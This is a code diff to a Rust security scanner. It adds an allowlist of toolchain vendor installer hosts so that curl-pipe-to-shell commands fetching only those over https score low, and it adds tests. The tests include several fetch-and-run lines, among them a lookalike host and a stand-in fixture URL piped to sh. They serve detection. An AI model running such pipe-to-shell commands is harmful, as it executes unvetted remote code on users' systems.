@@ -372,6 +372,53 @@ fn names_own_host(path: &str, command: &str) -> bool {
     url_hosts(command).any(|host| squash(host).contains(&project))
 }
 
+/// Where toolchains publish the installers their own documentation pipes into a shell
+/// (`curl -LsSf https://astral.sh/uv/install.sh | sh`, rustup, Docker, Poetry, nvm): a
+/// sandbox or CI helper that sets up `uv` this way fetches the vendor's script, not a
+/// payload of its own. Hosts, or host and path prefix.
+const VENDOR_INSTALLERS: &[&str] = &[
+    "astral.sh/",
+    "sh.rustup.rs",
+    "get.docker.com",
+    "install.python-poetry.org",
+    "bun.sh/install",
+    "deno.land/install.sh",
+    "get.pnpm.io/install.sh",
+    "pyenv.run",
+    "micro.mamba.pm/install.sh",
+    "pixi.sh/install.sh",
+    "ollama.com/install.sh",
+    "starship.rs/install.sh",
+    "tailscale.com/install.sh",
+    "get.k3s.io",
+    "nixos.org/nix/install",
+    "install.determinate.systems/nix",
+    "sdk.cloud.google.com",
+    "deb.nodesource.com/setup_",
+    "rpm.nodesource.com/setup_",
+    "raw.githubusercontent.com/nvm-sh/nvm/",
+    "raw.githubusercontent.com/homebrew/install/",
+    "raw.githubusercontent.com/helm/helm/",
+];
+
+/// True when a command line fetches over https and every URL it names is a vendor's
+/// installer ([`VENDOR_INSTALLERS`]).
+fn pipes_only_vendor_installers(command: &str) -> bool {
+    let mut urls = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';' | '{' | '}'))
+        .filter(|word| word.contains("://"))
+        .peekable();
+    urls.peek().is_some()
+        && urls.take(16).all(|url| {
+            url.strip_prefix("https://").is_some_and(|rest| {
+                let rest = rest.to_ascii_lowercase();
+                VENDOR_INSTALLERS
+                    .iter()
+                    .any(|prefix| rest.starts_with(prefix))
+            })
+        })
+}
+
 /// The hosts of the http(s) URLs among the words of a command line (at most 16).
 fn url_hosts(command: &str) -> impl Iterator<Item = &str> {
     command_head(command)
@@ -407,7 +454,12 @@ pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRang
     let severity = match context {
         // `INSTALL_HINT = 'curl -fsSL https://vast.ai/install.sh | bash'`: shown, not run; and
         // a project's own installer is how it tells users to update.
-        _ if checker.in_documentation_value() || names_own_host(checker.path, value) => 0.05,
+        _ if checker.in_documentation_value()
+            || names_own_host(checker.path, value)
+            || pipes_only_vendor_installers(value) =>
+        {
+            0.05
+        }
         ExecContext::Install | ExecContext::Import => 0.75,
         ExecContext::Runtime if fetches_from_bare_address(value) => 0.5,
         ExecContext::Runtime => 0.3,
@@ -2509,6 +2561,13 @@ mod tests {
         let own = "UPDATE = 'curl -fsSL https://vast.ai/install.sh | bash'\n";
         assert!(max_severity("vastai-1.9/vastai/cli.py", own, "WH120") < 0.1);
         assert!(max_severity("other-1.0/other/cli.py", own, "WH120") >= 0.7);
+        // A toolchain vendor's own installer, as a sandbox helper sets up `uv`.
+        let vendor = "UV = '{ command -v curl && curl -LsSf https://astral.sh/uv/install.sh | sh; } || { wget -qO- https://astral.sh/uv/install.sh | sh; }'\n";
+        assert!(max_severity("other-1.0/other/runtime.py", vendor, "WH120") < 0.1);
+        let lookalike = vendor.replace("astral.sh/uv", "astral-sh.example/uv");
+        assert!(max_severity("other-1.0/other/runtime.py", &lookalike, "WH120") >= 0.7);
+        let plain = vendor.replace("https://astral.sh", "http://astral.sh");
+        assert!(max_severity("other-1.0/other/runtime.py", &plain, "WH120") >= 0.7);
         let label = "PATTERNS = [('wget_sh', 'Download and run (wget | sh)')]\n";
         assert_eq!(max_severity("p/pkg/__init__.py", label, "WH120"), 0.0);
         let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
